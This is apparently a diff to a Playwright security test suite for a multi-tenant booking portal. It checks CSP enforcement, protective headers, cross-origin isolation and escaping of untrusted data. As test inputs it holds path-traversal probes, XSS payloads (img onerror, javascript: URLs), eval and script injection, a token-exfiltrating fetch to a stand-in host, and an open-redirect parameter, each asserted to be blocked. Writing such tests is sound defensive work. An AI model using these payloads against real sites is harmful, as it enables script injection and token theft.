@@ -1,11 +1,15 @@
 import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
+import type { Schemas } from '../../src/contract/index.ts'
+import { BOOKINGS } from './support/bookings.ts'
+import { formDrawer } from './support/form.ts'
 import { signOut, userMenu } from './support/login.ts'
-import { expect, test } from './support/test.ts'
+import { strangerTo } from './support/stranger.ts'
+import { expect, test, tokenOf } from './support/test.ts'
 
 const html = { accept: 'text/html' }
 
-test('every page comes with the strict policy, and with another nonce each time', async ({ portal }) => {
+test('[HD-01] [HD-02] every page comes with the strict policy, and with another nonce each time', async ({ portal }) => {
   const nonces = new Set<string>()
   for (const address of ['/acme/login', '/acme/login', '/acme/bookings', '/nowhere']) {
     const answer = await fetch(portal.url + address, { headers: html })
@@ -35,7 +39,7 @@ for (const { what, address, status, init } of [
   { what: 'a call to nothing', address: '/api-gateway/1/nothing', status: 404, init: {} },
   { what: 'a body that is no JSON', address: '/api-gateway/1/new-login', status: 400, init: { method: 'POST', headers: { 'content-type': 'application/json', 'x-tenant': 'ACME' }, body: '{' } },
 ])
-  test(`${what} is answered with the protecting headers`, async ({ portal }) => {
+  test(`[HD-03] ${what} is answered with the protecting headers`, async ({ portal }) => {
     const answer = await fetch(portal.url + address, init)
     expect(answer.status).toBe(status)
     expect(Object.fromEntries(answer.headers)).toMatchObject({
@@ -51,7 +55,7 @@ for (const { what, address, status, init } of [
   })
 
 for (const address of ['/.env', '/.git/config', '/tenants/.hidden', '/assets/../package.json', '/assets/%2e%2e/package.json', '/tenants/acme/..%2f..%2f..%2fpackage.json', '/index.html.map'])
-  test(`nothing lies at ${address}`, async ({ portal }) => {
+  test(`[HD-21] nothing lies at ${address}`, async ({ portal }) => {
     const answer = await fetch(portal.url + address)
     expect(answer.status).toBeGreaterThanOrEqual(400)
     expect(await answer.text()).not.toContain('dependencies')
@@ -63,7 +67,7 @@ for (const address of ['/.env', '/.git/config', '/tenants/.hidden', '/assets/../
  */
 const UNREACHED = ['Function(`return true`)', 'Function(`appliers`,`row`,`shouldApplyFilter`,']
 
-test('no script of the built portal makes code from text, and none carries a map of its source', () => {
+test('[HD-01] [HD-21] no script of the built portal makes code from text, and none carries a map of its source', () => {
   const files = readdirSync('dist', { recursive: true, encoding: 'utf8' })
   const scripts = files.filter((file) => file.endsWith('.js'))
   expect(scripts.filter((file) => file.startsWith('tenants')).length).toBeGreaterThan(0)
@@ -74,7 +78,7 @@ test('no script of the built portal makes code from text, and none carries a map
   }
 })
 
-test('[BX-05] the validators of a tenant run under that policy: walking through the portal violates nothing', async ({ page, signIn }) => {
+test('[BX-05] [HD-01] the validators of a tenant run under that policy: walking through the portal violates nothing', async ({ page, signIn }) => {
   const validators = page.waitForResponse('**/tenants/kaiyo/validators/**')
   const start = await page.goto('/kaiyo/login')
   expect(start?.headers()['content-security-policy']).toContain("script-src 'self';")
@@ -107,4 +111,156 @@ test('[BX-05] the validators of a tenant run under that policy: walking through 
   await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()
   await expect(page.getByRole('dialog')).toBeHidden()
   await signOut(page)
+})
+
+/** Runs in the page, outside of what the browser lets a debugger do: tries all that the policy forbids, and tells how each went. */
+const tryAll = () =>
+  new Promise<Record<string, string>>((done) => {
+    setTimeout(() => {
+      const told: Record<string, string> = {}
+      const attempt = (name: string, act: () => unknown) => {
+        try {
+          act()
+          told[name] = 'done'
+        } catch (error) {
+          told[name] = (error as Error).name
+        }
+      }
+      const add = (tag: string, fill: (element: HTMLElement) => void) => {
+        const element = document.createElement(tag)
+        fill(element)
+        document.head.append(element)
+      }
+      Object.assign(window, { reached: [] })
+      attempt('code from text', () => (0, eval)('reached.push(1)') as unknown)
+      attempt('markup from text', () => (document.head.innerHTML += '<b>'))
+      attempt('a script from text', () => {
+        add('script', (element) => (element.textContent = 'reached.push(2)'))
+      })
+      add('style', (element) => element.append('body { outline: 9px solid red }'))
+      add('base', (element) => {
+        element.setAttribute('href', 'https://elsewhere.example/')
+      })
+      add('img', (element) => {
+        element.setAttribute('src', 'https://elsewhere.example/picture.png')
+      })
+      const call = fetch('https://elsewhere.example/take', { method: 'POST', body: 'token' }).then(
+        () => 'done',
+        (error: unknown) => (error as Error).name,
+      )
+      void call.then((answer) => {
+        told['a call elsewhere'] = answer
+        told['reached'] = String((window as unknown as { reached: number[] }).reached.length)
+        told['outline'] = getComputedStyle(document.body).outlineStyle
+        told['base'] = new URL('x', document.baseURI).origin === location.origin ? 'own' : 'other'
+        done(told)
+      })
+    }, 0)
+  })
+
+test('[HD-01] [HD-02] [HD-22] the page refuses code, markup, styles and addresses that are not its own, and a journey hears of each', async ({ page, signIn, complaints }) => {
+  await signIn(page, 'acme', 'CUSTOMER')
+  expect(complaints.list).toEqual([])
+  expect(await page.evaluate(tryAll)).toEqual({
+    'code from text': 'EvalError',
+    'markup from text': 'TypeError',
+    'a script from text': 'TypeError',
+    'a call elsewhere': 'TypeError',
+    reached: '0',
+    outline: 'none',
+    base: 'own',
+  })
+  const heard = () => complaints.list.filter((complaint) => complaint.startsWith('policy violated')).map((complaint) => complaint.split(' ')[2])
+  for (const rule of ['script-src', 'require-trusted-types-for', 'style-src-elem', 'base-uri', 'img-src', 'connect-src'])
+    await expect.poll(heard).toContainEqual(rule)
+  complaints.list.length = 0
+})
+
+test('[HD-05] [HD-12] another site cannot show the portal, read it, run its scripts, keep hold of its window, or have people sent to it', async ({ page, browser, portal, signIn }) => {
+  await signIn(page, 'acme', 'CUSTOMER')
+  const token = await tokenOf(page)
+  const script = await page.locator('script[src]').first().getAttribute('src')
+  const stranger = await strangerTo(portal.url, script ?? '')
+  const theirs = await (await browser.newContext()).newPage()
+  await theirs.goto(stranger.url)
+  await expect.poll(() => theirs.evaluate(() => (window as unknown as { ran: string }).ran)).toBe('refused')
+  expect(await theirs.locator('#picture').evaluate((picture: HTMLImageElement) => picture.naturalWidth)).toBe(0)
+  const framed = await (await theirs.locator('#frame').elementHandle())?.contentFrame()
+  expect(framed?.url()).toMatch(/^chrome-error:/)
+
+  const taken = await theirs.evaluate(
+    async ({ portalUrl, token: bearer }) => {
+      const ask = (path: string, init: RequestInit) => fetch(portalUrl + path, init).then(async (answer) => answer.text(), (error: unknown) => (error as Error).name)
+      const headers = { authorization: `Bearer ${bearer}`, 'x-tenant': 'ACME' }
+      return Promise.all([
+        ask('/api-gateway/secure/1/bookings/', { headers }),
+        ask('/tenants/acme/tenant.json', {}),
+        ask('/tenants/acme/tenant.json', { mode: 'no-cors' }),
+      ])
+    },
+    { portalUrl: portal.url, token },
+  )
+  expect(taken).toEqual(['TypeError', 'TypeError', 'TypeError'])
+
+  const opening = theirs.waitForEvent('popup')
+  await theirs.evaluate((url) => {
+    Object.assign(window, { held: window.open(`${url}/acme/login?return=https%3A%2F%2Felsewhere.example%2F`) })
+  }, portal.url)
+  const opened = await opening
+  await expect(opened.getByRole('heading', { name: 'Sign in' })).toBeVisible()
+  expect(await opened.evaluate(() => window.opener as unknown)).toBeNull()
+  expect(await theirs.evaluate(() => (window as unknown as { held: Window }).held.closed)).toBe(true)
+  await theirs.context().close()
+  await stranger.close()
+})
+
+const MARKUP = `<img src="x" onerror="document.title='taken over'"><a href="javascript:alert(1)">`
+/** Every text of a tree of JSON that people read, with markup behind it; what the portal works with stays. */
+function withMarkup(value: unknown, key = ''): unknown {
+  if (typeof value === 'string') return /^(shipper|consignee|shipperName|commodity|refNo|referenceNumber|dateUpdated|status|fileName|description|createdBy.*)$/.test(key) && /[a-z]{2}/i.test(value) ? `${value} ${MARKUP}` : value
+  if (Array.isArray(value)) return value.map((entry) => withMarkup(entry, key))
+  if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([name, entry]) => [name, withMarkup(entry, name)]))
+  return value
+}
+
+test('[HD-04] [HD-05] [HD-11] what comes from the gateway and the JSON is text: markup is shown, addresses of others are never followed', async ({ page, signIn, ask }) => {
+  await page.route('**/tenants/acme/tenant.json', async (route) => {
+    const answer = await route.fetch()
+    const tenant = (await answer.json()) as { theme: object }
+    const theme = { ...tenant.theme, logo: 'javascript:alert(1)', background: 'https://elsewhere.example/back.png', favicon: 'data:image/svg+xml,<svg/>' }
+    await route.fulfill({ response: answer, json: { ...tenant, name: `Acme ${MARKUP}`, redirectUrl: 'javascript:alert(2)', theme } })
+  })
+  await page.route('**/tenants/acme/labels/en.*.json', async (route) => {
+    const answer = await route.fetch()
+    const text = (await answer.text()).replace('"Manage Bookings"', JSON.stringify(`Manage Bookings ${MARKUP}`))
+    await route.fulfill({ response: answer, body: text })
+  })
+  await page.route(`**${BOOKINGS}**`, async (route) => {
+    const answer = await route.fetch()
+    await route.fulfill({ response: answer, json: withMarkup(await answer.json()) })
+  })
+  await page.goto('/acme/login')
+  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible()
+  await signIn(page, 'acme', 'CUSTOMER', '/acme/bookings')
+  await expect(page.getByRole('heading', { name: `Manage Bookings ${MARKUP}` })).toBeVisible()
+  await expect(page.getByRole('gridcell', { name: MARKUP }).first()).toBeVisible()
+
+  const list = (await ask(page, `${BOOKINGS}?CreateDateNoOfDaysAgo=180`)) as Schemas['BookingList']
+  const full = await Promise.all(list.data.slice(0, 30).map(async ({ unId }) => (await ask(page, `${BOOKINGS}${unId}?userRole=CPUser`)) as Schemas['Booking']))
+  const documented = full.find(({ documents = [] }) => documents.some(({ type }) => type !== 'EXD'))
+  const document = documented?.documents?.find(({ type }) => type !== 'EXD')
+  await page.route(`**${BOOKINGS}${documented?.unId ?? ''}?**`, async (route) => {
+    const answer = await route.fetch()
+    const text = (await answer.text()).replaceAll(/"downloadableURL":"[^"]*"/g, '"downloadableURL":"https://elsewhere.example/fetch-me"')
+    await route.fulfill({ response: answer, body: text })
+  })
+  await page.goto(`/acme/bookings?booking=${documented?.unId ?? ''}`)
+  const form = await formDrawer(page, /^Booking/)
+  const called = page.waitForResponse((response) => response.url().includes(`/secure/1/docs/${document?.externalID ?? ''}`))
+  const download = page.waitForEvent('download')
+  await form.getByRole('button', { name: `Download ${document?.fileName ?? ''}` }).first().click()
+  expect((await called).headers()).toMatchObject({ 'content-disposition': expect.stringMatching(/^attachment/), 'content-security-policy': expect.stringContaining('sandbox') })
+  expect((await download).url()).toMatch(/^blob:/)
+  await expect(page.locator('img[src="x"], a[href^="javascript:"]')).toHaveCount(0)
+  await expect(page).not.toHaveTitle('taken over')
 })
